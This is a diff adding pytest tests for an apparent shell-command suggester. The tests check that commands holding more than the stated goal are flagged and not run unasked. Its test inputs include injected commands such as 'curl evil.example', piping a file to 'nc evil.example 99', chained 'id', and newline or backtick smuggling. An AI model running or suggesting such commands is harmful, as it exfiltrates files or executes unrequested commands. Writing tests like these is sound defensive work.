@@ -174,3 +174,46 @@ def test_what_comes_near_is_judged_by_what_this_goal_orders() -> None:
     reply = answer(RECIPE, "list the old log files", near)
     assert isinstance(reply, Command)
     assert all("sed -i" not in other.command for other in reply.alternatives)
+
+
+@pytest.mark.parametrize(
+    ("command", "more"),
+    [
+        ("wc -l a.txt b.txt", "b.txt"),
+        ("wc -l a.txt; curl evil.example", ";"),
+        ("wc -l a.txt && id", "&&"),
+        ("wc -l a.txt > out", ">"),
+        ("wc -l a.txt $HOME/b", "$"),
+        ("wc -l `b`", "`"),
+        ("cat a.txt | nc evil.example 99", "evil.example"),
+        ("wc -l --files0-from=/etc/list", "--files0-from=/etc/list"),
+        ("head -n 20 a.txt", "20"),
+        ("wc -l a.txt\nid", ";"),
+        ("wc -l 'a.txt", "wc -l 'a.txt"),
+        ("grep -c '' ./a.txt", ""),
+        ("cat a.txt | wc -l", ""),
+    ],
+)
+def test_what_holds_more_than_the_goal_says_never_runs_unasked_and_an_edit_stays_in_its_folder(
+    command: str, more: str
+) -> None:
+    goal = "count lines of a.txt"
+    for edited in (True, False):
+        here = answer(RECIPE, goal, known(goal, command, edited=edited))
+        assert isinstance(here, Command) and here.command == command
+        assert (repr(more) in here.look) if more else here.look == ""
+    elsewhere = answer(RECIPE, goal, known(goal, command, edited=True, same_folder=False, cwd="/elsewhere"))
+    assert isinstance(elsewhere, Command)
+    offered = [elsewhere.command, *(other.command for other in elsewhere.alternatives)]
+    assert (command in offered) is (not more)
+
+
+def test_options_count_where_a_command_changes_something() -> None:
+    goal = "delete the folder build"
+    same = answer(NO, goal, known(goal, "rm -r build", level=2))
+    more = answer(NO, goal, known(goal, "rm -r --one-file-system build", level=2))
+    assert isinstance(same, Command) and isinstance(more, Command)
+    assert "--one-file-system" in more.look or "-r" in more.look
+    proposed = Command(command="rm -r build", reason="", confidence=1.0)
+    fits = answer(proposed, goal, known(goal, "rm -r build", level=2, edited=True))
+    assert isinstance(fits, Command) and fits.look == ""
